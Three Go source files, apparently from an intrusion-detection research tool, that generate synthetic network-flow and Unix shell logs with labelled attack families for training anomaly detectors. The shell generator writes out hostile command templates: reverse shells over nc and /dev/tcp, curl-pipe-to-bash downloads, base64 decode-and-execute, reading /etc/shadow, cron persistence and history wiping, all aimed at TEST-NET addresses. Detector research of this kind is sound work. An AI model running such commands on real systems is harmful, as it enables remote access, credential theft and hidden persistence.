			flowLine("udp", "dns", "con", 0, flowBucket(r, 0, 1), flowBucket(r, 0, 1), 0, 0),
		},
		{flowLine("tcp", "http", "req", 0, flowBucket(r, 0, 1), 0, 1, 0)},
		{
			flowLine("udp", "dns", "con", 0, 1, 1, 0, 0),
			flowLine("tcp", "ssl", "int", flowBucket(r, 0, 1), 1, 1, 1, 1),
		},
	}
	return all[r.Intn(len(all))]
}

// flowAttackVariants follows the UNSW-NB15 category framing. In-box
// variants are the loud forms a threshold/signature NIDS flags (rej-state
// scan bursts, sp9 floods, bulk uploads to unknown services); out-of-box
// variants hide the same intent in plausible services — slow scans, DNS
// amplification and tunneling, long steady HTTPS exfiltration.
var flowAttackVariants = []struct {
	family string
	inBox  bool
	gen    func(r *rand.Rand) []string
}{
	// --- Family: port scanning ---
	{"portscan", true, func(r *rand.Rand) []string {
		n := 3 + r.Intn(4)
		lines := make([]string, n)
		for i := range lines {
			lines[i] = flowLine("tcp", "other", "rej", 0, 0, 0, 0, 0)
		}
		return lines
	}},
	{"portscan", false, func(r *rand.Rand) []string {
		// Slow scan: connection attempts spaced out, INT state, low volume.
		n := 2 + r.Intn(3)
		proto := []string{"tcp", "udp"}[r.Intn(2)]
		lines := make([]string, n)
		for i := range lines {
			lines[i] = flowLine(proto, "other", "int", flowBucket(r, 4, 6), 0, 0, 0, 0)
		}
		return lines
	}},

	// --- Family: denial of service ---
	{"dos", true, func(r *rand.Rand) []string {
		n := 2 + r.Intn(3)
		lines := make([]string, n)
		for i := range lines {
			lines[i] = flowLine("tcp", "http", "int", 0, flowBucket(r, 0, 1), 0, 9, 0)
		}
		return lines
	}},
	{"dos", false, func(r *rand.Rand) []string {
		// DNS amplification: small spoofed queries, huge responses.
		return []string{flowLine("udp", "dns", "con", 0, flowBucket(r, 0, 1), 9, flowBucket(r, 1, 2), 9)}
	}},

	// --- Family: exfiltration ---
	{"exfil", true, func(r *rand.Rand) []string {
		return []string{flowLine("tcp", "other", "fin", flowBucket(r, 5, 7), 9, flowBucket(r, 0, 1), flowBucket(r, 5, 7), flowBucket(r, 1, 2))}
	}},
	{"exfil", false, func(r *rand.Rand) []string {
		// Long steady HTTPS upload — shaped like a video call, sized like a
		// database dump.
		return []string{flowLine("tcp", "ssl", "fin", 9, flowBucket(r, 7, 8), flowBucket(r, 1, 2), flowBucket(r, 6, 7), flowBucket(r, 2, 3))}
	}},

	// --- Family: command-and-control ---
	{"backdoor_c2", true, func(r *rand.Rand) []string {
		return []string{flowLine("tcp", "irc", "con", flowBucket(r, 6, 8), flowBucket(r, 1, 2), flowBucket(r, 1, 2), flowBucket(r, 2, 3), flowBucket(r, 2, 3))}
	}},
	{"backdoor_c2", false, func(r *rand.Rand) []string {
		// DNS tunneling: a run of fat "lookups" no resolver traffic matches.
		n := 3 + r.Intn(3)
		lines := make([]string, n)
		for i := range lines {
			lines[i] = flowLine("udp", "dns", "con", flowBucket(r, 1, 2), flowBucket(r, 3, 4), flowBucket(r, 3, 4), flowBucket(r, 3, 4), flowBucket(r, 3, 4))
		}
		return lines
	}},

	// --- Family: exploit delivery ---
	{"exploit", true, func(r *rand.Rand) []string {
		return []string{flowLine("tcp", "http", "req", 0, flowBucket(r, 4, 5), 0, flowBucket(r, 1, 2), 0)}
	}},
	{"exploit", false, func(r *rand.Rand) []string {
		return []string{flowLine("tcp", "smtp", "int", 0, flowBucket(r, 4, 6), 0, flowBucket(r, 1, 2), flowBucket(r, 0, 1))}
	}},
}

func (flowModality) NewGen(rng *rand.Rand) Gen { return &flowGen{} }

// flowGen is stateless: flows carry no evolving naming context, so every
// draw comes from the per-call rand stream.
type flowGen struct{}

func (g *flowGen) Benign(r *rand.Rand) string  { return flowBenignLine(r) }
func (g *flowGen) Weird(r *rand.Rand) string   { return flowWeirdLine(r) }
func (g *flowGen) Typo(r *rand.Rand) string    { return flowTypoLine(r) }
func (g *flowGen) Garbage(r *rand.Rand) string { return flowGarbageLine(r) }
func (g *flowGen) Recon(r *rand.Rand) []string { return flowReconLines(r) }

func (g *flowGen) Attack(r *rand.Rand, outOfBox bool) Attack {
	candidates := make([]int, 0, len(flowAttackVariants)/2)
	for i, v := range flowAttackVariants {
		if v.inBox != outOfBox {
			candidates = append(candidates, i)
		}
	}
	v := flowAttackVariants[candidates[r.Intn(len(candidates))]]
	return Attack{Family: v.family, InBox: v.inBox, Lines: v.gen(r)}
}

func (g *flowGen) Families() []string {
	seen := make(map[string]bool)
	var out []string
	for _, v := range flowAttackVariants {
		if !seen[v.family] {
			seen[v.family] = true
			out = append(out, v.family)
		}
	}
	return out
}
