package modality

// The Unix-shell corpus generator, moved verbatim from internal/corpus when
// modalities became pluggable. The exact *rand.Rand call sequence of every
// function here is pinned by the corpus golden test (same seed → the same
// corpus bytes the pre-registry generator produced); change draws only with
// a deliberate golden refresh.

import (
	"encoding/base64"
	"fmt"
	"math/rand"
	"strings"
)

// naming produces consistent random identifiers (paths, hosts, containers).
type naming struct {
	rng *rand.Rand
}

func newNaming(rng *rand.Rand) *naming { return &naming{rng: rng} }

var (
	dirWords  = []string{"srv", "data", "app", "logs", "backup", "deploy", "build", "release", "conf", "scripts", "www", "tmp", "opt", "models", "cache"}
	fileStems = []string{"main", "server", "config", "report", "access", "error", "train", "index", "setup", "notes", "result", "dump", "metrics", "events", "users"}
	fileExts  = []string{".py", ".sh", ".log", ".txt", ".json", ".yaml", ".csv", ".tar.gz", ".conf", ".go"}
	hostTLDs  = []string{"example.com", "example.org", "corp.internal", "mirror.example", "cdn.example"}
	services  = []string{"nginx", "redis", "mysqld", "sshd", "docker", "cron", "kubelet", "postgres"}
	branches  = []string{"main", "dev", "release-1.4", "feature/login", "hotfix-221"}
	pyModules = []string{"http.server", "json.tool", "venv", "pip"}
)

func (n *naming) dir() string {
	depth := 1 + n.rng.Intn(3)
	parts := make([]string, depth)
	for i := range parts {
		parts[i] = dirWords[n.rng.Intn(len(dirWords))]
	}
	return "/" + strings.Join(parts, "/")
}

func (n *naming) file() string {
	return fileStems[n.rng.Intn(len(fileStems))] + fileExts[n.rng.Intn(len(fileExts))]
}

func (n *naming) path() string { return n.dir() + "/" + n.file() }

func (n *naming) host() string {
	return fmt.Sprintf("%s.%s", dirWords[n.rng.Intn(len(dirWords))], hostTLDs[n.rng.Intn(len(hostTLDs))])
}

func (n *naming) ip() string {
	// TEST-NET-3 keeps synthetic addresses obviously non-routable.
	return fmt.Sprintf("203.0.113.%d", 1+n.rng.Intn(254))
}

func (n *naming) port() int { return 1024 + n.rng.Intn(60000) }

func (n *naming) container() string {
	return fmt.Sprintf("%s_%d", dirWords[n.rng.Intn(len(dirWords))], n.rng.Intn(100))
}

func (n *naming) pid() int { return 100 + n.rng.Intn(32000) }

// benignTemplate is one benign command generator with a Fig. 2-style
// occurrence weight.
type benignTemplate struct {
	name   string
	weight int
	gen    func(r *rand.Rand, nm *naming) string
}

// benignTemplates approximates the command-occurrence distribution from the
// paper's Fig. 2: cd and echo dominate, followed by chmod, grep, ls, awk...
var benignTemplates = []benignTemplate{
	{"cd", 90, func(r *rand.Rand, nm *naming) string { return "cd " + nm.dir() }},
	{"echo", 80, func(r *rand.Rand, nm *naming) string {
		msgs := []string{"done", "starting build", "ok", "deploy finished", "$PATH", "$(date)", "retrying..."}
		return "echo " + quoteMaybe(r, msgs[r.Intn(len(msgs))])
	}},
	{"chmod", 55, func(r *rand.Rand, nm *naming) string {
		modes := []string{"+x", "755", "644", "600", "u+rw"}
		return "chmod " + modes[r.Intn(len(modes))] + " " + nm.path()
	}},
	{"grep", 55, func(r *rand.Rand, nm *naming) string {
		pats := []string{"error", "WARN", "timeout", "refused", "GET /api", "failed"}
		flags := []string{"-i", "-rn", "-c", "-v", ""}
		f := flags[r.Intn(len(flags))]
		if f != "" {
			f += " "
		}
		return "grep " + f + quoteMaybe(r, pats[r.Intn(len(pats))]) + " " + nm.path()
	}},
	{"ls", 50, func(r *rand.Rand, nm *naming) string {
		flags := []string{"-la", "-lh", "-ltr", "", "-a"}
		f := flags[r.Intn(len(flags))]
		if f != "" {
			f += " "
		}
		return "ls " + f + nm.dir()
	}},
	{"awk", 35, func(r *rand.Rand, nm *naming) string {
		progs := []string{"'{print $1}'", "'{print $2, $5}'", "'{sum+=$3} END {print sum}'", "-F: '{print $1}'"}
		return "awk " + progs[r.Intn(len(progs))] + " " + nm.path()
	}},
	{"ll", 30, func(r *rand.Rand, nm *naming) string { return "ll " + nm.dir() }},
	{"df", 30, func(r *rand.Rand, nm *naming) string {
		if r.Intn(2) == 0 {
			return "df -h"
		}
		return `df -h | grep "/dev/vda1"`
	}},
	{"ps", 30, func(r *rand.Rand, nm *naming) string {
		opts := []string{"ps aux", "ps -ef", "ps aux | grep " + services[r.Intn(len(services))], "ps aux | sort -rk 3,3 | head -n 5"}
		return opts[r.Intn(len(opts))]
	}},
	{"cat", 28, func(r *rand.Rand, nm *naming) string { return "cat " + nm.path() }},
	{"rm", 25, func(r *rand.Rand, nm *naming) string {
		if r.Intn(3) == 0 {
			return "rm -rf " + nm.dir() + "/build"
		}
		return "rm " + nm.path()
	}},
	{"docker", 25, func(r *rand.Rand, nm *naming) string {
		opts := []string{
			"docker ps -a",
			"docker logs -f " + nm.container(),
			"docker exec -it " + nm.container() + " bash",
			"docker run --rm -it -v " + nm.dir() + ":/work ubuntu bash",
			"docker attach --sig-proxy=false " + nm.container(),
			"docker images | head",
		}
		return opts[r.Intn(len(opts))]
	}},
	{"vim", 20, func(r *rand.Rand, nm *naming) string {
		targets := []string{"~/.bashrc", nm.path(), "/etc/hosts", "~/.ssh/config"}
		return "vim " + targets[r.Intn(len(targets))]
	}},
	{"python", 20, func(r *rand.Rand, nm *naming) string {
		opts := []string{
			"python main.py",
			"python3 -m " + pyModules[r.Intn(len(pyModules))],
			"python3 train.py --epochs " + fmt.Sprint(1+r.Intn(50)),
			"python3 -c 'import sys; print(sys.version)'",
		}
		return opts[r.Intn(len(opts))]
	}},
	{"git", 20, func(r *rand.Rand, nm *naming) string {
		opts := []string{
			"git status",
			"git pull origin " + branches[r.Intn(len(branches))],
			"git log --oneline | head -n 20",
			"git diff HEAD~1",
			"git checkout " + branches[r.Intn(len(branches))],
		}
		return opts[r.Intn(len(opts))]
	}},
	{"tail", 18, func(r *rand.Rand, nm *naming) string {
		return fmt.Sprintf("tail -n %d %s", 10+r.Intn(200), nm.path())
	}},
	{"curl", 15, func(r *rand.Rand, nm *naming) string {
		opts := []string{
			"curl -s https://" + nm.host() + "/healthz",
			"curl -fsSL https://" + nm.host() + "/status | head",
			"curl -o " + nm.file() + " https://" + nm.host() + "/" + nm.file(),
		}
		return opts[r.Intn(len(opts))]
	}},
	{"systemctl", 14, func(r *rand.Rand, nm *naming) string {
		verbs := []string{"status", "restart", "stop", "start"}
		return "systemctl " + verbs[r.Intn(len(verbs))] + " " + services[r.Intn(len(services))]
	}},
	{"tar", 12, func(r *rand.Rand, nm *naming) string {
		if r.Intn(2) == 0 {
			return "tar -czf backup.tar.gz " + nm.dir()
		}
		return "tar -xzf " + nm.file() + " -C " + nm.dir()
	}},
	{"kill", 10, func(r *rand.Rand, nm *naming) string {
		if r.Intn(3) == 0 {
			return fmt.Sprintf("kill -9 %d", nm.pid())
		}
		return fmt.Sprintf("kill %d", nm.pid())
	}},
	{"find", 10, func(r *rand.Rand, nm *naming) string {
		return fmt.Sprintf("find %s -name '*%s' -mtime +%d", nm.dir(), fileExts[r.Intn(len(fileExts))], 1+r.Intn(60))
	}},
	{"head", 9, func(r *rand.Rand, nm *naming) string { return "head -n 50 " + nm.path() }},
	{"wget", 9, func(r *rand.Rand, nm *naming) string {
		return "wget https://" + nm.host() + "/" + nm.file()
	}},
	{"top", 8, func(r *rand.Rand, nm *naming) string { return "top -b -n 1 | head -n 15" }},
	{"free", 8, func(r *rand.Rand, nm *naming) string { return "free -m" }},
	{"du", 8, func(r *rand.Rand, nm *naming) string { return "du -sh " + nm.dir() }},
	{"ssh", 8, func(r *rand.Rand, nm *naming) string {
		return fmt.Sprintf("ssh deploy@%s 'systemctl restart %s'", nm.ip(), services[r.Intn(len(services))])
	}},
	{"scp", 6, func(r *rand.Rand, nm *naming) string {
		return fmt.Sprintf("scp %s deploy@%s:%s", nm.path(), nm.ip(), nm.dir())
	}},
	{"make", 6, func(r *rand.Rand, nm *naming) string {
		opts := []string{"make", "make test", "make build", "make clean && make"}
		return opts[r.Intn(len(opts))]
	}},
	{"sed", 6, func(r *rand.Rand, nm *naming) string {
		return "sed -i 's/debug/info/g' " + nm.path()
	}},
	{"watch", 5, func(r *rand.Rand, nm *naming) string { return "watch -n 1 nvidia-smi" }},
	{"mysql", 5, func(r *rand.Rand, nm *naming) string {
		return "mysql -u app -p -e 'show processlist'"
	}},
	{"kubectl", 5, func(r *rand.Rand, nm *naming) string {
		opts := []string{"kubectl get pods", "kubectl logs -f deploy/api", "kubectl describe node"}
		return opts[r.Intn(len(opts))]
	}},
	{"crontab", 4, func(r *rand.Rand, nm *naming) string { return "crontab -l" }},
	{"uname", 4, func(r *rand.Rand, nm *naming) string { return "uname -a" }},
	{"php", 4, func(r *rand.Rand, nm *naming) string { return `php -r "phpinfo();"` }},
	{"pip", 4, func(r *rand.Rand, nm *naming) string {
		pkgs := []string{"requests", "numpy", "flask", "boto3"}
		return "pip install " + pkgs[r.Intn(len(pkgs))]
	}},
	{"export", 4, func(r *rand.Rand, nm *naming) string {
		opts := []string{
			"export PATH=$PATH:/usr/local/go/bin",
			"export LANG=en_US.UTF-8",
			"export JAVA_HOME=/opt/jdk",
		}
		return opts[r.Intn(len(opts))]
	}},
	{"mv", 4, func(r *rand.Rand, nm *naming) string { return "mv " + nm.path() + " " + nm.dir() }},
	{"cp", 4, func(r *rand.Rand, nm *naming) string { return "cp " + nm.path() + " " + nm.dir() }},
	{"mkdir", 4, func(r *rand.Rand, nm *naming) string { return "mkdir -p " + nm.dir() }},
	{"whoami", 3, func(r *rand.Rand, nm *naming) string { return "whoami" }},
	{"netstat", 3, func(r *rand.Rand, nm *naming) string { return "netstat -tlnp | head" }},
	{"java", 3, func(r *rand.Rand, nm *naming) string {
		return "java -jar app.jar --server.port=" + fmt.Sprint(8000+r.Intn(1000))
	}},
	{"history", 2, func(r *rand.Rand, nm *naming) string { return "history | tail -n 30" }},
}

var benignTotalWeight = func() int {
	t := 0
	for _, b := range benignTemplates {
		t += b.weight
	}
	return t
}()

func quoteMaybe(r *rand.Rand, s string) string {
	switch r.Intn(3) {
	case 0:
		return `"` + s + `"`
	case 1:
		return "'" + s + "'"
	default:
		if strings.ContainsAny(s, " $") {
			return `"` + s + `"`
		}
		return s
	}
}

// benignLine samples one routine command line.
func benignLine(r *rand.Rand, nm *naming) string {
	w := r.Intn(benignTotalWeight)
	for _, b := range benignTemplates {
		if w < b.weight {
			return b.gen(r, nm)
		}
		w -= b.weight
	}
	return "ls"
}

// ShellBenignCommandNames lists the command names the benign shell generator
// can emit; the pre-processing frequency filter should learn approximately
// this set.
func ShellBenignCommandNames() []string {
	out := make([]string, 0, len(benignTemplates))
	for _, b := range benignTemplates {
		out = append(out, b.name)
	}
	return out
}

// weirdBenignLine produces the §III "abnormal yet benign" behaviours that
// inflate PCA reconstruction errors: a mv with a very large number of
// complex filenames, or an echo with long human-unreadable text.
func weirdBenignLine(r *rand.Rand, nm *naming) string {
	switch r.Intn(3) {
	case 0:
		n := 8 + r.Intn(18)
		parts := make([]string, 0, n+2)
		parts = append(parts, "mv")
		for i := 0; i < n; i++ {
			parts = append(parts, fmt.Sprintf("%s.%04d.%x.bak", fileStems[r.Intn(len(fileStems))], r.Intn(10000), r.Int63()))
		}
		parts = append(parts, nm.dir())
		return strings.Join(parts, " ")
	case 1:
		var b strings.Builder
		b.WriteString("echo ")
		b.WriteByte('"')
		for i := 0; i < 6+r.Intn(8); i++ {
			c := byte('a' + r.Intn(26))
			b.WriteString(strings.Repeat(string(c), 3+r.Intn(12)))
		}
		b.WriteByte('"')
		return b.String()
	default:
		return fmt.Sprintf("awk 'BEGIN{for(i=0;i<%d;i++)x=x i}{print length(x), $0}' %s | sort | uniq -c | sort -rn | head -n %d",
			100+r.Intn(900), nm.path(), 5+r.Intn(20))
	}
}

// typoTargets are the commands whose typo variants appear in logs; the
// misspellings parse fine but occur with very low frequency, which is what
// the Fig. 2 command filter keys on.
var typoForms = map[string][]string{
	"docker":  {"dcoker", "dokcer", "docekr"},
	"chmod":   {"chdmod", "chmdo", "cmhod"},
	"grep":    {"gerp", "grpe"},
	"ls":      {"sl", "lss"},
	"python":  {"pyhton", "pytohn"},
	"git":     {"gti", "igt"},
	"cat":     {"act", "caat"},
	"kubectl": {"kubeclt", "kubctl"},
}

// typoLine emits a benign line whose command name is misspelled.
func typoLine(r *rand.Rand, nm *naming) string {
	keys := []string{"docker", "chmod", "grep", "ls", "python", "git", "cat", "kubectl"}
	k := keys[r.Intn(len(keys))]
	forms := typoForms[k]
	typo := forms[r.Intn(len(forms))]
	// Reuse the real command's argument shape.
	for _, b := range benignTemplates {
		if b.name == k {
			line := b.gen(r, nm)
			return typo + strings.TrimPrefix(line, k)
		}
	}
	return typo
}

// garbageLine emits a syntactically invalid record: corrupted log entries,
// stray operators, unterminated quotes — the records the parser removes.
func garbageLine(r *rand.Rand) string {
	forms := []string{
		"/*/*/* -> /*/*/* ->",
		"| grep " + fileStems[r.Intn(len(fileStems))],
		"ls | ",
		"echo 'unterminated " + fileStems[r.Intn(len(fileStems))],
		`cat "no closing`,
		"tar -czf > >",
		"&& systemctl restart",
		"( df -h",
		"mv a.txt > ",
		"2> ",
	}
	return forms[r.Intn(len(forms))]
}

// reconLines is the short discovery prefix an attacker typically runs.
func reconLines(r *rand.Rand) []string {
	all := [][]string{
		{"whoami", "id"},
		{"uname -a", "cat /etc/os-release"},
		{"ps aux | head -n 20"},
		{"netstat -tlnp | head", "whoami"},
		{"cat /etc/passwd | head"},
	}
	return all[r.Intn(len(all))]
}

// attackVariant is one concrete intrusion generator. In-box variants match
// the simulated commercial IDS rules; out-of-box variants are the paper's
// Table III blind spots and must be caught by the learned methods.
type attackVariant struct {
	family string
	inBox  bool
	gen    func(r *rand.Rand, nm *naming) []string
}

// fakeB64 produces a base64 blob standing in for an encoded payload.
func fakeB64(r *rand.Rand) string {
	raw := make([]byte, 12+r.Intn(24))
	for i := range raw {
		raw[i] = byte(r.Intn(256))
	}
	return base64.StdEncoding.EncodeToString(raw)
}

// attackVariants enumerates all families. Table III correspondence:
//
//	nc -lvnp *                         | nc -ulp *
//	masscan * -p 0-65535 --rate=1000   | sh /root/masscan.sh * -p 0-65535
//	bash -i >& * 0>&1                  | java -cp tmp.jar "bash=bash -i >& *"
//	export https_proxy="http:*"        | export https_proxy="socks5:*"
//	java -jar tmp.jar -C "bash -c ..." | python3 tmp.py -p "bash -c ..."
//	curl http://*/x.sh | bash          | wget -c http://* -o python ; python
var attackVariants = []attackVariant{
	// --- Family: nc listeners / connect-back shells ---
	{"nc_shell", true, func(r *rand.Rand, nm *naming) []string {
		forms := []string{
			fmt.Sprintf("nc -lvnp %d", nm.port()),
			fmt.Sprintf("nc -e /bin/sh %s %d", nm.ip(), nm.port()),
			fmt.Sprintf("ncat -lvp %d -e /bin/bash", nm.port()),
		}
		return []string{forms[r.Intn(len(forms))]}
	}},
	{"nc_shell", false, func(r *rand.Rand, nm *naming) []string {
		forms := []string{
			fmt.Sprintf("nc -ulp %d", nm.port()),
			fmt.Sprintf("ncat --udp -lp %d -e /bin/sh", nm.port()),
		}
		return []string{forms[r.Intn(len(forms))]}
	}},

	// --- Family: fd-redirection reverse shells ---
	{"rev_shell", true, func(r *rand.Rand, nm *naming) []string {
		return []string{fmt.Sprintf("bash -i >& /dev/tcp/%s/%d 0>&1", nm.ip(), nm.port())}
	}},
	{"rev_shell", false, func(r *rand.Rand, nm *naming) []string {
		forms := []string{
			fmt.Sprintf(`java -cp tmp.jar "bash=bash -i >& /dev/tcp/%s/%d 0>&1"`, nm.ip(), nm.port()),
			fmt.Sprintf("sh -i >& /dev/udp/%s/%d 0>&1", nm.ip(), nm.port()),
		}
		return []string{forms[r.Intn(len(forms))]}
	}},

	// --- Family: port scanning ---
	{"masscan", true, func(r *rand.Rand, nm *naming) []string {
		return []string{fmt.Sprintf("masscan %s -p 0-65535 --rate=1000 >> tmp.txt", nm.ip())}
	}},
	{"masscan", false, func(r *rand.Rand, nm *naming) []string {
		return []string{fmt.Sprintf("sh /root/masscan.sh %s -p 0-65535", nm.ip())}
	}},

	// --- Family: proxy exfiltration ---
	{"proxy", true, func(r *rand.Rand, nm *naming) []string {
		return []string{fmt.Sprintf(`export https_proxy="http://%s:%d"`, nm.ip(), nm.port())}
	}},
	{"proxy", false, func(r *rand.Rand, nm *naming) []string {
		return []string{fmt.Sprintf(`export https_proxy="socks5://%s:%d"`, nm.ip(), nm.port())}
	}},

	// --- Family: base64-decode-and-execute ---
	{"b64_exec", true, func(r *rand.Rand, nm *naming) []string {
		return []string{fmt.Sprintf(`java -jar tmp.jar -C "bash -c {echo,%s} {base64,-d} {bash,-i}"`, fakeB64(r))}
	}},
	{"b64_exec", false, func(r *rand.Rand, nm *naming) []string {
		forms := []string{
			fmt.Sprintf(`python3 tmp.py -p "bash -c {echo,%s} {base64,-d} {bash,-i}"`, fakeB64(r)),
			fmt.Sprintf("echo %s | base64 -d | bash -i", fakeB64(r)),
		}
		return []string{forms[r.Intn(len(forms))]}
	}},

	// --- Family: download-and-execute ---
	{"download_exec", true, func(r *rand.Rand, nm *naming) []string {
		forms := []string{
			fmt.Sprintf("curl http://%s/%x.sh | bash", nm.ip(), r.Intn(1<<16)),
			fmt.Sprintf("wget -q -O- http://%s/init.sh | sh", nm.ip()),
		}
		return []string{forms[r.Intn(len(forms))]}
	}},
	{"download_exec", false, func(r *rand.Rand, nm *naming) []string {
		// The paper's §IV-C chain: download, rename to an innocuous
		// interpreter name, then execute — only suspicious in context.
		return []string{
			fmt.Sprintf("wget -c http://%s/%x -o python", nm.ip(), r.Intn(1<<16)),
			"python",
		}
	}},

	// --- Family: credential theft ---
	{"cred_theft", true, func(r *rand.Rand, nm *naming) []string {
		return []string{"cat /etc/shadow"}
	}},
	{"cred_theft", false, func(r *rand.Rand, nm *naming) []string {
		return []string{fmt.Sprintf("tar -cf /tmp/.%x.tar /etc/shadow /etc/passwd", r.Intn(1<<16))}
	}},

	// --- Family: cron persistence ---
	{"persistence", true, func(r *rand.Rand, nm *naming) []string {
		return []string{fmt.Sprintf(`(crontab -l; echo "* * * * * curl http://%s/s.sh | sh") | crontab -`, nm.ip())}
	}},
	{"persistence", false, func(r *rand.Rand, nm *naming) []string {
		return []string{fmt.Sprintf(`echo "* * * * * curl -fsSL http://%s/s.sh -o /tmp/.s && sh /tmp/.s" >> /var/spool/cron/root`, nm.ip())}
	}},

	// --- Family: anti-forensics ---
	{"history_clear", true, func(r *rand.Rand, nm *naming) []string {
		return []string{"history -c && rm -f ~/.bash_history"}
	}},
	{"history_clear", false, func(r *rand.Rand, nm *naming) []string {
		return []string{"unset HISTFILE; ln -sf /dev/null ~/.bash_history"}
	}},
}

// pickAttack samples a variant with the requested box-ness.
func pickAttack(r *rand.Rand, outOfBox bool) attackVariant {
	candidates := make([]attackVariant, 0, len(attackVariants)/2)
	for _, v := range attackVariants {
		if v.inBox != outOfBox {
			candidates = append(candidates, v)
		}
	}
	return candidates[r.Intn(len(candidates))]
}

// ShellAttackFamilies returns the distinct shell attack family names, for
// reporting.
func ShellAttackFamilies() []string {
	seen := make(map[string]bool)
	var out []string
	for _, v := range attackVariants {
		if !seen[v.family] {
			seen[v.family] = true
			out = append(out, v.family)
		}
	}
	return out
}

// TableIIIPairs returns the paper's Table III verbatim as (in-box,
// out-of-box) example pairs, with the paper's anonymized "*" arguments
// instantiated to fixed synthetic values. Used by the qualitative analyses
// (§V-C) and the generalization experiment (E6).
func TableIIIPairs() [][2]string {
	const (
		ip   = "203.0.113.77"
		port = "4444"
		b64  = "cGtnIGluc3RhbGwgJiYgcnVuIC1kCg=="
	)
	return [][2]string{
		{"nc -lvnp " + port, "nc -ulp " + port},
		{"masscan " + ip + " -p 0-65535 --rate=1000 >> tmp.txt",
			"sh /root/masscan.sh " + ip + " -p 0-65535"},
		{"bash -i >& /dev/tcp/" + ip + "/" + port + " 0>&1",
			`java -cp tmp.jar "bash=bash -i >& /dev/tcp/` + ip + "/" + port + ` 0>&1"`},
		{`export https_proxy="http://` + ip + ":" + port + `"`,
			`export https_proxy="socks5://` + ip + ":" + port + `"`},
		{`java -jar tmp.jar -C "bash -c {echo,` + b64 + `} {base64,-d} {bash,-i}"`,
			`python3 tmp.py -p "bash -c {echo,` + b64 + `} {base64,-d} {bash,-i}"`},
		{"curl http://" + ip + "/a1f3.sh | bash",
			"wget -c http://" + ip + "/a1f3 -o python"},
	}
}
