// Package modality makes the log modality a first-class, pluggable
// abstraction. The paper's pipeline is trained and served on Unix shell
// command lines, but nothing in the architecture is shell-specific: any
// tokenizable event stream — Windows/PowerShell command lines, textualized
// network flows, audit records — can flow through the same preprocessing,
// BPE tokenization, masked-LM pre-training, and method scorers.
//
// A Modality bundles everything the stack needs to open a new workload:
//
//   - a line validator + normalizer (Parse), which replaces the hard-coded
//     shell parser in internal/preprocess: it rejects unparsable records
//     and produces the canonical form plus the per-line "command" units the
//     frequency filter counts;
//   - a seeded deterministic generator (NewGen) of benign traffic and
//     attack session chains, which internal/corpus drives to synthesize
//     per-modality train/test corpora.
//
// Modalities register themselves in a process-wide registry; the artifact
// layer (bundle manifests), the serving stack (/stats, /readyz, /reload),
// and every command's -modality flag validate against it. The Unix-shell
// path is the first registered modality and is pinned byte-identical to
// the pre-registry implementation by golden tests.
package modality

import (
	"errors"
	"fmt"
	"math/rand"
	"sort"
	"sync"
)

// Shell is the name of the default modality (Unix shell command lines).
const Shell = "shell"

// ErrUnparsable flags a line the modality's validator rejected. The
// preprocessing layer wraps per-line failures in it so callers distinguish
// "malformed record" (counted, dropped) from configuration errors with
// errors.Is.
var ErrUnparsable = errors.New("modality: unparsable line")

// ErrUnknown flags an unregistered modality name. Errors wrapping it list
// the registered names, mirroring the -method validation UX.
var ErrUnknown = errors.New("modality: unknown modality")

// Record is one validated, normalized line.
type Record struct {
	// Line is the canonical (normalized) form — what the tokenizer and
	// scorers consume, and what session windows retain.
	Line string
	// Commands are the distinct command-like units on the line, in
	// first-use order: shell command names, PowerShell cmdlet/program
	// names, or a flow's proto/service tag. The Fig. 2 filter tests each
	// against its frequency criteria.
	Commands []string
	// Occurrences lists every command occurrence including repeats (a
	// shell pipeline `grep a | grep b` occurs twice); frequency fitting
	// counts these, matching the pre-registry shell behavior exactly.
	Occurrences []string
}

// Attack is one generated intrusion: a family label, whether the simulated
// in-box rule set covers the variant, and the session's line chain (length
// >1 forms a multi-line attack chain).
type Attack struct {
	Family string
	InBox  bool
	Lines  []string
}

// Gen produces synthetic lines of one modality. Implementations draw
// randomness only from the *rand.Rand passed per call, so corpus synthesis
// is deterministic given the seed. A Gen may keep derived naming state but
// must not hold its own entropy source.
type Gen interface {
	// Benign emits one routine benign line.
	Benign(r *rand.Rand) string
	// Weird emits one abnormal-yet-benign line (§III false-positive bait).
	Weird(r *rand.Rand) string
	// Typo emits a line that parses but carries a rare (misspelled or
	// malformed-but-valid) command unit, for the frequency filter.
	Typo(r *rand.Rand) string
	// Garbage emits a line the modality's validator rejects.
	Garbage(r *rand.Rand) string
	// Recon emits the short benign-looking discovery prefix that precedes
	// most attack sessions.
	Recon(r *rand.Rand) []string
	// Attack emits one intrusion with the requested box-ness.
	Attack(r *rand.Rand, outOfBox bool) Attack
	// Families lists the distinct attack family names, for reporting.
	Families() []string
}

// Modality is one pluggable log modality.
type Modality interface {
	// Name is the registry key ("shell", "powershell", "flows").
	Name() string
	// Parse validates a raw logged line and returns its canonical record.
	// A rejection wraps ErrUnparsable.
	Parse(line string) (Record, error)
	// NewGen returns a fresh seeded generator; rng is the corpus
	// generator's stream (shared with session structure draws, so the call
	// sequence is part of the modality's determinism contract).
	NewGen(rng *rand.Rand) Gen
}

var (
	regMu    sync.RWMutex
	registry = make(map[string]Modality)
)

// Register adds a modality to the process-wide registry. Registering a
// duplicate name panics: modalities are wired at init time and a collision
// is a programming error.
func Register(m Modality) {
	regMu.Lock()
	defer regMu.Unlock()
	if _, dup := registry[m.Name()]; dup {
		panic(fmt.Sprintf("modality: duplicate registration of %q", m.Name()))
	}
	registry[m.Name()] = m
}

// Names returns the registered modality names, sorted for stable output.
func Names() []string {
	regMu.RLock()
	defer regMu.RUnlock()
	out := make([]string, 0, len(registry))
	for name := range registry {
		out = append(out, name)
	}
	sort.Strings(out)
	return out
}

// Canonical maps the empty name to the default shell modality; artifacts
// written before modalities existed carry no name and mean shell.
func Canonical(name string) string {
	if name == "" {
		return Shell
	}
	return name
}

// Get returns the registered modality for name ("" = shell).
func Get(name string) (Modality, error) {
	regMu.RLock()
	defer regMu.RUnlock()
	m, ok := registry[Canonical(name)]
	if !ok {
		return nil, fmt.Errorf("%w %q (registered: %v)", ErrUnknown, name, namesLocked())
	}
	return m, nil
}

// namesLocked is Names under an already-held read lock.
func namesLocked() []string {
	out := make([]string, 0, len(registry))
	for name := range registry {
		out = append(out, name)
	}
	sort.Strings(out)
	return out
}

// MustGet is Get for statically known-valid names; it panics on an
// unregistered name. Entry points that accept user input (flags, loaded
// artifacts) must call Validate/Get first, so the panic marks a
// programming error, not a user error.
func MustGet(name string) Modality {
	m, err := Get(name)
	if err != nil {
		panic(err)
	}
	return m
}

// Validate rejects unregistered modality names with an error that lists
// the registered ones — the same fail-in-milliseconds UX as the -method
// flags. The empty name is valid (shell).
